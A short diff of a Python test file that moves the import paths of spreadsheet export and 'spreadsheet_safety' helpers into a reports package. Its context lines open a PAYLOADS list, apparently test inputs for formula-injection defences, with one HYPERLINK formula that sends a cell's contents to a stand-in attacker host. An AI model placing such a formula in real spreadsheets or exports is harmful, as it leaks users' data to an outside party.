@@ -8,8 +8,8 @@ import zipfile
 import pytest
 from openpyxl import load_workbook
 
-from feedback_app.services.exports import Percent, Sheet, csv_line, csv_lines, write_xlsx
-from feedback_app.services.spreadsheet_safety import neutralise, neutralise_text
+from feedback_app.services.reports.exports import Percent, Sheet, csv_line, csv_lines, write_xlsx
+from feedback_app.services.reports.spreadsheet_safety import neutralise, neutralise_text
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
